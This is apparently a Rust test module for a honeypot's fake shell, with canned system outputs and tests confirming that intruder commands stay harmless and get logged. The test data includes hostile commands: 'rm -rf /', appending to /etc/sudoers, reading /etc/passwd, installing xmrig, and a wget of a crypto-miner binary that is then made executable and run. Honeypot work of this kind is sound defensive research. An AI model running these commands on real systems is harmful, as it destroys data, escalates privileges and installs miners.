const IFCONFIG: &str = "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 9001\n        inet 172.31.22.143  netmask 255.255.240.0  broadcast 172.31.31.255\n        ether 0a:3f:91:6c:2e:b1  txqueuelen 1000  (Ethernet)\n        RX packets 1840213  bytes 702118834 (702.1 MB)\n        TX packets 1320946  bytes 251093391 (251.0 MB)\n\nlo: flags=73<UP,LOOPBACK,RUNNING>  mtu 65536\n        inet 127.0.0.1  netmask 255.0.0.0\n        loop  txqueuelen 1000  (Local Loopback)\n\n";

const IP_ADDR: &str = "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000\n    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n    inet 127.0.0.1/8 scope host lo\n2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 9001 qdisc fq_codel state UP group default qlen 1000\n    link/ether 0a:3f:91:6c:2e:b1 brd ff:ff:ff:ff:ff:ff\n    inet 172.31.22.143/20 metric 100 brd 172.31.31.255 scope global dynamic eth0\n";

const FREE: &str = "               total        used        free      shared  buff/cache   available\nMem:          983332      281220      402312        1020      299800      554612\nSwap:              0           0           0\n";

const DF: &str = "Filesystem     1K-blocks    Used Available Use% Mounted on\n/dev/root        8065444 2301632   5747428  29% /\ntmpfs             491664       0    491664   0% /dev/shm\n";

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::fs::build_default_fs;
    use crate::shell::parse::parse_line;

    struct Env {
        fs: FakeFs,
        cwd: String,
        config: ShellConfig,
        capture: CaptureStore,
    }

    impl Env {
        fn new() -> Self {
            Self {
                fs: build_default_fs(),
                cwd: "/home/jmiller".into(),
                config: ShellConfig::default(),
                capture: CaptureStore::offline(),
            }
        }

        fn run(&mut self, line: &str) -> Execution {
            let mut ctx = Ctx {
                fs: &mut self.fs,
                user: "jmiller",
                home: "/home/jmiller",
                cwd: &mut self.cwd,
                now: chrono::TimeZone::with_ymd_and_hms(&Utc, 2024, 1, 1, 0, 0, 0).unwrap(),
                config: &self.config,
                capture: &self.capture,
                history: &[],
            };
            execute_line(&mut ctx, &parse_line(line).unwrap())
        }
    }

    #[test]
    fn home_listing() {
        let mut env = Env::new();
        assert_eq!(env.run("ls").output, "private  work\n");
        assert!(env.run("ls -la").output.contains(".bashrc"));
        assert!(env.run("ls -l").output.contains("drwx------ 2 jmiller  jmiller    4096 Nov 14 09:12 private"));
    }

    #[test]
    fn navigation() {
        let mut env = Env::new();
        env.run("cd work/projects");
        assert_eq!(env.run("pwd").output, "/home/jmiller/work/projects\n");
        assert_eq!(env.run("cd /root").output, "bash: cd: /root: Permission denied\n");
        assert_eq!(env.run("cd nowhere").output, "bash: cd: nowhere: No such file or directory\n");
        env.run("cd");
        assert_eq!(env.run("pwd").output, "/home/jmiller\n");
    }

    #[test]
    fn identity_and_refusals() {
        let mut env = Env::new();
        assert_eq!(env.run("whoami").output, "jmiller\n");
        assert_eq!(env.run("id").output, "uid=1000(jmiller) gid=1000(jmiller) groups=1000(jmiller)\n");
        let sudo = env.run("sudo su");
        assert!(sudo.output.contains("incorrect password"));
        assert_eq!(env.run("whoami").output, "jmiller\n");
        assert_eq!(env.run("unknowncmd").output, "bash: unknowncmd: command not found\n");
        let apt = env.run("apt install xmrig");
        assert!(apt.output.starts_with("Reading package lists"));
        assert!(apt.output.contains("are you root?"));
    }

    #[test]
    fn rm_rf_root_is_harmless() {
        let mut env = Env::new();
        let before = env.fs.clone();
        let out = env.run("rm -rf /").output;
        assert!(out.contains("rm: cannot remove '/etc': Permission denied"), "{out}");
        assert_eq!(env.fs, before);
    }

    #[test]
    fn redirect_and_pipes() {
        let mut env = Env::new();
        env.run("echo hello > note.txt");
        env.run("echo again >> note.txt");
        assert_eq!(env.run("cat note.txt").output, "hello\nagain\n");
        // "jmiller:x:1000:1000:,,,:/home/jmiller:/bin/bash\n" is 48 bytes
        assert_eq!(env.run("cat /etc/passwd | grep jmiller | wc -l").output, "      1       1      48\n");
        assert!(env.run("echo x >> /etc/sudoers").output.contains("Permission denied"));
    }

    #[test]
    fn connectors() {
        let mut env = Env::new();
        assert_eq!(env.run("false && echo a || echo b; echo c").output, "b\nc\n");
        assert!(env.run("ls; exit; ls").exit);
    }

    #[test]
    fn offline_wget_creates_inert_placeholder() {
        let mut env = Env::new();
        let exec = env.run("cd /tmp; wget https://www.lukminer.net/download/luk-cpu");
        assert!(exec.output.contains("Resolving www.lukminer.net"));
        assert!(exec.output.contains("'luk-cpu' saved"));
        let urls: Vec<&str> = exec
            .effects
            .iter()
            .filter_map(|e| match e {
                SideEffect::Download(r) => Some(r.url.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(urls, vec!["https://www.lukminer.net/download/luk-cpu"]);
        let node = env.fs.get(&resolve("/", "/", "/tmp/luk-cpu")).unwrap();
        assert_eq!(node.permissions(), "-rw-rw-r--");
        assert!(exec.delay >= Duration::from_secs(1));
        assert!(env.run("chmod +x luk-cpu; ./luk-cpu").output.contains("Exec format error"));
    }

    #[test]
    fn malformed_url_is_logged_anyway() {
        let mut env = Env::new();
        let exec = env.run("wget ht!tp:::");
        assert!(matches!(&exec.effects[..], [SideEffect::Download(r)] if r.error.is_some()));
    }

    #[test]
    fn symbolic_modes() {
        assert_eq!(apply_mode(0o644, "+x"), Some(0o755));
        assert_eq!(apply_mode(0o755, "go-rx"), Some(0o700));
        assert_eq!(apply_mode(0o000, "u=rw"), Some(0o600));
        assert_eq!(apply_mode(0o644, "777"), Some(0o777));
        assert_eq!(apply_mode(0o644, "q+x"), None);
    }
}
